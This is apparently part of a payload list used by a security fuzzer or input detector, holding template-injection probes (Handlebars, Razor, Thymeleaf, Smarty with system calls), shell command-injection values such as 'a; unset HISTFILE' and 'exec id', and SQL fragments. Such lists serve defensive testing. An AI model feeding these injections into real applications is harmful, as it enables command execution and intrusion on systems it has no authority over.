    "..",
    "${session}",
    "{{#each this}}{{@key}}{{/each}}",
    "{{lookup this 'constructor'}}",
    "@{ var x = 7; }",
    "@System.DateTime.Now",
    "~{::x}",
    "{literal}a{/literal}",
    "{7*7|cat:1}",
    "{$x|system}",
    "a; unset HISTFILE",
    "a;wall hi",
    "a;write root",
    "a;yes|head",
    "||6",
    "distinct",
    "as @a select 1",
    "to_timestamp_tz",
    "procedure",
    "replace(a,b,c)",
    "this.process",
    "ProcessBuilder",
    "alias_name=system",
    "exec id",
    "chr(65).chr(66)",
)
